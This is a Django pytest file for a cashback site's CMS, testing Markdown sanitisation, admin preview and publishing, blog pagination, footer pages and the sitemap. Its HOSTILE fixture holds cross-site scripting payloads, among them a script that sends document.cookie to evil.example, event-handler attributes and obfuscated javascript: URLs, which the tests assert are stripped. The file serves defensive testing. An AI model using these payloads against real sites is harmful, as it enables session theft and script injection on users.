"""CMS pages: Markdown rendered safely, preview before publishing, the blog, the footer, sitemap and canonical."""

from __future__ import annotations

import re

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.factories import StaffUserFactory, UserFactory
from accounts.models import AuditLog
from cms.factories import CmsPageFactory
from cms.markdown import markdown_to_html
from cms.models import CmsPage

HOSTILE = """\
# Offers

<script>document.location='https://evil.example/?c='+document.cookie</script>

<img src="/static/x.png" onerror="alert(1)"> <a href="/" onclick="steal()">home</a>

[click me](javascript:alert(1)) <a href="JaVaScRiPt:alert(2)">two</a> <a href="java&#09;script:alert(3)">three</a>

<iframe src="https://evil.example"></iframe><svg onload="alert(4)"></svg>

**bold** and [FAQ](/pages/faq/)
"""


def test_markdown_with_script_event_handlers_and_javascript_urls_renders_harmless():
    html = markdown_to_html(HOSTILE)
    lowered = html.lower()
    for bad in ("<script", "onerror", "onclick", "onload", "<iframe", "<svg", "evil.example"):
        assert bad not in lowered, bad
    # no URL attribute keeps a javascript: scheme (the Markdown link that was refused stays as inert text)
    urls = re.findall(r'(?:href|src)="([^"]*)"', lowered)
    assert urls and not [u for u in urls if "script" in u], urls
    # what is harmless stays: headings, emphasis, the image and safe links
    assert "<h1>Offers</h1>" in html and "<strong>bold</strong>" in html
    assert '<img src="/static/x.png">' in html
    assert '<a href="/pages/faq/" rel="noopener noreferrer">FAQ</a>' in html


@pytest.mark.django_db
def test_published_page_renders_with_seo_fields_and_canonical(client, settings):
    settings.SITE_URL = "https://couponali.in"
    CmsPageFactory(
        slug="how-cashback-works",
        title="How cashback works",
        content=HOSTILE,
        seo_title="Cashback explained",
        seo_description="Click, shop, get paid.",
    )
    response = client.get("/pages/how-cashback-works/?utm_source=x")
    html = response.content.decode()
    assert response.status_code == 200
    assert "<title>Cashback explained</title>" in html
    assert '<meta name="description" content="Click, shop, get paid.">' in html
    assert '<link rel="canonical" href="https://couponali.in/pages/how-cashback-works/">' in html
    assert "<strong>bold</strong>" in html and "<script>document" not in html and "onerror" not in html


@pytest.mark.django_db
def test_unpublished_page_is_404_until_previewed_and_published_in_the_admin(client):
    page = CmsPageFactory(slug="diwali-guide", title="Diwali guide", content="Light **lamps**.", is_published=False)
    assert client.get("/pages/diwali-guide/").status_code == 404

    editor = StaffUserFactory()
    client.force_login(editor)
    preview = client.get(reverse("admin:cms_cmspage_preview", args=[page.pk]))
    assert preview.status_code == 200
    body = preview.content.decode()
    assert "<strong>lamps</strong>" in body and "not published yet" in body and "noindex" in body

    # a shopper cannot preview, nor publish
    client.force_login(UserFactory())
    assert client.get(reverse("admin:cms_cmspage_preview", args=[page.pk])).status_code == 302
    client.force_login(editor)
    assert client.get(reverse("admin:cms_cmspage_publish", args=[page.pk])).status_code == 405
    published = client.post(reverse("admin:cms_cmspage_publish", args=[page.pk]))
    assert published.status_code == 302 and published["Location"] == "/pages/diwali-guide/"
    page.refresh_from_db()
    assert page.is_published and page.published_at is not None
    assert AuditLog.objects.filter(action="cms.page_published", entity_id=page.pk, actor_user=editor).exists()
    client.logout()
    assert client.get("/pages/diwali-guide/").status_code == 200


@pytest.mark.django_db
def test_blog_lists_published_posts_newest_first_with_pagination(client):
    now = timezone.now()
    for i in range(12):
        CmsPageFactory(
            slug=f"post-{i}",
            title=f"Post number {i}",
            page_type=CmsPage.PageType.BLOG,
            published_at=now - timezone.timedelta(days=i),
        )
    CmsPageFactory(slug="draft", title="Draft post", page_type="blog", is_published=False, published_at=now)
    CmsPageFactory(slug="terms", title="Terms of use", page_type="terms", published_at=now)
    first = client.get("/blog/").content.decode()
    assert first.index("Post number 0") < first.index("Post number 9")
    assert "Post number 10" not in first and "Draft post" not in first and "Terms of use" not in first
    assert 'href="?page=2"' in first
    second = client.get("/blog/?page=2").content.decode()
    assert "Post number 10" in second and "Post number 11" in second and "Post number 9" not in second
    assert client.get("/blog/?page=3").status_code == 404
    assert client.get("/blog/?page=abc").status_code == 404


@pytest.mark.django_db
def test_footer_links_the_demo_pages_which_have_real_text(client):
    from cms import demo_content

    assert demo_content.pages_load() == len(demo_content.PAGES) + len(demo_content.BLOG_POSTS)
    assert demo_content.pages_load() == 0  # idempotent
    home = client.get("/").content.decode()
    footer = home[home.index('<nav class="footer-nav"') :]
    for slug, label in [
        ("about", "About"),
        ("how-cashback-works", "How cashback works"),
        ("faq", "FAQ"),
        ("terms", "Terms"),
        ("privacy", "Privacy"),
        ("contact", "Contact"),
    ]:
        assert f'<a href="/pages/{slug}/">{label}</a>' in footer
        page = client.get(f"/pages/{slug}/")
        assert page.status_code == 200
        text = page.content.decode()
        assert "lorem" not in text.lower() and len(CmsPage.objects.get(slug=slug).content) > 400
    assert "Claim missing cashback" in client.get("/pages/how-cashback-works/").content.decode()


@pytest.mark.django_db
def test_sitemap_lists_published_pages_and_the_blog_only(client, settings):
    settings.SITE_URL = "https://couponali.in"
    CmsPageFactory(slug="faq", title="FAQ")
    CmsPageFactory(slug="secret-draft", is_published=False)
    index = client.get("/sitemap.xml").content.decode()
    assert "sitemap-content.xml" in index
    content = client.get("/sitemap-content.xml").content.decode()
    assert "<loc>https://couponali.in/pages/faq/</loc>" in content
    assert "<loc>https://couponali.in/blog/</loc>" in content
    assert "secret-draft" not in content
